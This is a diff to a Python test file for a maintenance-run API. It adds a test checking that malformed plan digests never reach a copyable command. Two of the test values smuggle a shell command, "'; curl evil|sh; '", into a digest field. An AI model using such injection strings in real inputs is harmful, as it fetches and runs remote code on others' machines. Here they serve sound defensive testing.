@@ -12,6 +12,8 @@ from housekeeper_api.harvest import run_result
 from housekeeper_api.maintenance_run import RunResult
 from housekeeper_api.result import AuditReport, CheckReport, Cleanup, Restoration, Result, ResultError
 
+DIGEST = f"sha256:{'0' * 64}"
+
 anything = st.recursive(
     st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(st.characters(), max_size=20),
     lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=5), inner, max_size=4),
@@ -79,7 +81,7 @@ def test_what_a_worker_says_arrives_whole() -> None:
         open_files={"notOpen": 7},
         errors=("a.log: permission denied",),
         error_count=1,
-        plan_digest="sha256:00",
+        plan_digest=DIGEST,
         planned=7,
         planned_bytes=6,
         plan_stored=".housekeeper/plans/00.plan",
@@ -108,7 +110,7 @@ def test_what_a_worker_says_arrives_whole() -> None:
             "openFiles": {"notOpen": 7},
             "errors": ["a.log: permission denied"],
             "errorCount": 1,
-            "planDigest": "sha256:00",
+            "planDigest": DIGEST,
             "planned": 7,
             "plannedBytes": 6,
             "planStored": ".housekeeper/plans/00.plan",
@@ -194,3 +196,23 @@ def fits(result: Result) -> None:
     assert status is not None
     plain = json.dumps(status.to_object(), ensure_ascii=False).encode()
     assert RunResult.model_validate_json(plain) == status
+
+
+@pytest.mark.parametrize(
+    "digest",
+    [
+        f"{DIGEST}'; curl evil|sh; '",
+        f"{DIGEST}\n",
+        f"x{DIGEST}",
+        "sha256:x'; curl evil|sh; '",
+        DIGEST.upper(),
+        DIGEST[:-1],
+        7,
+        None,
+    ],
+)
+def test_what_is_no_digest_never_gets_into_a_command_that_people_copy(digest: object) -> None:
+    told = run_result(said(cleanup={"planDigest": digest, "planStored": "x"}))
+    assert told is not None
+    assert told.cleanup is not None
+    assert told.cleanup.plan_digest is None
